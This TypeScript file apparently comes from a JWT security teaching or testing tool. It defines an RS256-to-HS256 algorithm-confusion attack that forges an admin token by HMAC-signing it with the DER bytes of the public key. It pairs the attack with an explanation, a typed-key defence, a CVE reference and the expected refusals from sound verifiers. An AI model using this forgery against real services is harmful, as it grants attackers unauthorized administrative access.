import { withClaims, withHeader } from '../../service/tokens/parts.ts';
import { signWithText } from '../../service/tokens/sign.ts';
import { decodeBase64url } from '../../jwt/base64url.ts';
import type { Attack } from '../attack.ts';

/** The bytes between the lines of a PEM (RFC 7468 §2). */
const bytesOf = (pem: string): Uint8Array => {
  const base64 = pem.replaceAll(/-----[^-]+-----|\s|=/gu, '');
  return decodeBase64url(base64.replaceAll('+', '-').replaceAll('/', '_')).bytes;
};

export const rsHsDer: Attack = {
  id: 'rs-hs-der',
  name: 'RS256 to HS256 with the key’s bytes (DER)',
  group: 'algorithm',
  setting: 'rs256',
  precondition:
    'The verifier lets the header choose the algorithm and holds its keys as bytes without a type.',
  needs: ['a-token', 'public-key'],
  goal: 'u-9 is let in as admin; no guard that looks for the word BEGIN has anything to find.',
  forge: ({ honest, knows }) => {
    const claimed = withClaims(honest, { role: 'admin' });
    const renamed = withHeader(claimed, { alg: 'HS256' });
    return Promise.resolve({
      moves: [
        { say: 'Change one claim: role becomes admin.', token: claimed },
        { say: 'Set alg to HS256.', token: renamed },
        {
          say: 'Take the public key out of its PEM wrapping and sign by HMAC with those bytes.',
          token: signWithText(renamed, bytesOf(knows.publicPem)),
        },
      ],
    });
  },
  explanation: [
    'A PEM is a wrapping: base64 between two lines. Inside is DER, the bytes that every tool gives for a public key. A verifier that unwraps its keys when it starts, or reads .der files, holds those bytes.',
    'To HMAC any bytes are a secret. If the header may still choose HS256, the public bytes are one, and a guard that searches for BEGIN sees nothing.',
    'The spelling of a key was never the fault. That one value without a type served both algorithms was.',
  ],
  defence:
    'Hold keys as typed values, each for exactly one algorithm, and take the algorithm from the key.',
  bcp: ['2.1', '3.1'],
  clauses: [],
  cves: [
    {
      id: 'CVE-2026-85394',
      what: 'python-jose to 3.5.0: its guard knows PEM and SSH texts, and took the DER of a public key as an HMAC secret',
    },
  ],
  sound: {
    pinned: { outcome: 'refuse', at: 'alg', because: 'HS256 is not the configured RS256.' },
    strict: { outcome: 'refuse', at: 'alg', because: 'HS256 is not the configured RS256.' },
  },
};
